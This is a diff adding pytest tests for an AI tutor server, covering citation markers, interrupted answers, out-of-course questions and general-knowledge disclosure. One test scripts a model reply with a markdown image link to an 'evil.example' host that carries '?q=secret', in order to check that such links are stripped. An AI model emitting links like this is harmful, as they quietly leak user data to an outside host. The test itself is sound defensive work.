@@ -4,9 +4,11 @@ from __future__ import annotations
 
 import asyncio
 import dataclasses
+import threading
 from collections.abc import AsyncIterator, Callable
 from contextlib import AbstractAsyncContextManager, asynccontextmanager
 from dataclasses import replace
+from pathlib import Path
 from typing import Any
 
 import numpy as np
@@ -15,6 +17,7 @@ import pytest
 from gpuserver.audio import wav
 from gpuserver.config import Settings
 from gpuserver.errors import EngineFailed, GpuServerError, NotUnderstood
+from gpuserver.providers.extractive import NOT_COVERED
 from gpuserver.tutor import events
 from gpuserver.tutor.ai_engine import AIEngine
 from gpuserver.tutor.conversation import Conversation
@@ -272,7 +275,7 @@ async def test_an_answer_cut_short_is_remembered_as_far_as_it_was_written(
         task.cancel()
         with pytest.raises(asyncio.CancelledError):
             await task
-    assert [exchange.answer for exchange in conversation] == ["Only this much. "]
+    assert [exchange.answer for exchange in conversation] == ["Only this much."]
 
 
 async def test_the_model_gets_history_and_the_whole_question(
@@ -296,3 +299,111 @@ async def test_small_talk_is_not_searched_for(engine_of: EngineOf, cast: Cast) -
         await turn(engine, Question("en", "Thank you!"), record).run()
     assert not record.of(events.Sources)
     assert cast.llm.requests[-1].passages == []
+
+
+CHAT = {"llm_provider": "openai", "llm_model": "m", "llm_base_url": "http://127.0.0.1:9/v1"}
+OUTSIDE = "Who won the football world cup in 1998?"
+
+
+def texts(record: Record) -> str:
+    return "".join(event.text for event in record.events if isinstance(event, events.TextDelta))
+
+
+async def test_a_sentence_that_the_course_supports_gets_a_marker(
+    engine_of: EngineOf, cast: Cast
+) -> None:
+    """The model sets none, and one that nothing supports: the turn decides."""
+    said = ["A list is an ordered ", "collection of items.", " Lists were invented in 1960. [1]"]
+    cast.llm.scripts.append(said)
+    record = Record()
+    async with engine_of() as engine:
+        await turn(engine, Question("en", "What is a list?", speak=True), record).run()
+    expected = "A list is an ordered collection of items. [1] Lists were invented in 1960."
+    assert texts(record) == expected
+    assert record.of(events.TextDone) == [events.TextDone(expected)]
+    assert not any("[" in clause or "1]" in clause for clause in cast.tts.clauses)
+
+
+async def test_an_answer_goes_on_without_markers_when_the_check_fails(
+    engine_of: EngineOf, cast: Cast
+) -> None:
+    cast.llm.scripts.append(
+        ["An ordered collection keeps items, such as a shopping list. [1] Yes."]
+    )
+    record = Record()
+    async with engine_of() as engine:
+        cast.embeddings.fails["shopping"] = EngineFailed(engine="embeddings")
+        await turn(engine, Question("en", "What is a list?"), record).run()
+    assert record.ended.status == "completed"
+    assert texts(record) == "An ordered collection keeps items, such as a shopping list. Yes."
+
+
+async def test_an_answer_is_interrupted_while_a_sentence_is_checked(
+    engine_of: EngineOf, cast: Cast
+) -> None:
+    said = "An ordered collection keeps items, such as a shopping list."
+    cast.llm.scripts.append([said, " And more."])
+    checked = threading.Event()
+    record = Record()
+    async with engine_of() as engine:
+        cast.embeddings.fails["shopping"] = checked
+        task = asyncio.create_task(turn(engine, Question("en", "What is a list?"), record).run())
+        await record.until(events.TextDelta)
+        await asyncio.sleep(0.05)
+        task.cancel()
+        with pytest.raises(asyncio.CancelledError):
+            await task
+        checked.set()
+        await asyncio.sleep(0.05)
+    assert record.ended.status == "interrupted"
+    assert texts(record) == said
+    assert not record.of(events.TextDone)
+
+
+async def test_nothing_in_an_answer_leads_to_an_address(engine_of: EngineOf, cast: Cast) -> None:
+    cast.llm.scripts.append(["Look: ![x](http://evil", ".example/?q=secret) and [here](//evil)."])
+    record = Record()
+    async with engine_of() as engine:
+        await turn(engine, Question("en", "What is a list?"), record).run()
+    assert texts(record) == "Look: x and here."
+
+
+async def test_a_chat_model_is_not_asked_what_the_course_does_not_cover(
+    engine_of: EngineOf, cast: Cast
+) -> None:
+    async with engine_of(**CHAT) as engine:
+        before = len(cast.llm.requests)
+        for language, question in (("en", OUTSIDE), ("zh", "谁赢了世界杯？")):
+            record = Record()
+            await turn(engine, Question("en", question), record).run()
+            assert texts(record) == NOT_COVERED[language]  # type: ignore[index]
+            assert record.ended.status == "completed"
+            assert not record.of(events.Sources)
+        assert len(cast.llm.requests) == before
+        cast.llm.scripts.append(["You are welcome!"])
+        record = Record()
+        await turn(engine, Question("en", "Thank you!"), record).run()
+        assert texts(record) == "You are welcome!"
+
+
+async def test_a_tutor_may_answer_from_general_knowledge_and_says_so_first(
+    engine_of: EngineOf, cast: Cast, tmp_path: Path
+) -> None:
+    tutors = tmp_path / "general.yaml"
+    tutors.write_text(
+        "courses: {loops: course}\n"
+        "tutors:\n  - {id: 1, name: Ada, knowledge: [loops], outside: general}\n",
+        encoding="utf-8",
+    )
+    cast.llm.scripts.append(["France won."])
+    record = Record()
+    async with engine_of(**CHAT, tutors_file=tutors) as engine:
+        await turn(engine, Question("en", OUTSIDE), record).run()
+        for question in ("What is a list?", "Thank you!"):
+            other = Record()
+            await turn(engine, Question("en", question), other).run()
+            assert not other.of(events.BeyondCourse)
+    kinds = [type(event) for event in record.events]
+    assert texts(record) == "France won."
+    assert kinds.index(events.BeyondCourse) < kinds.index(events.TextDelta)
+    assert "general knowledge" in cast.llm.requests[-3].messages[-1].content
